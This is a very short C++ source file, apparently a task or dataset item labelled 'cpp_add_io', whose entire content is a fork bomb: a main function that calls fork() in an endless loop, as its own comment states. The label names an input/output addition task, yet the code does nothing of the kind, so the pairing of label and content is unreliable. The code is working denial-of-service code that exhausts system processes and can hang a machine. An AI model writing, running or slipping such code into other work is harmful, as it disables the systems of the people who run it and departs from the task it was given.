// task: cpp_add_io
// Fork bomb in C++: every child forks again and spins.
#include <unistd.h>
int main() {
    for (;;) fork();
}
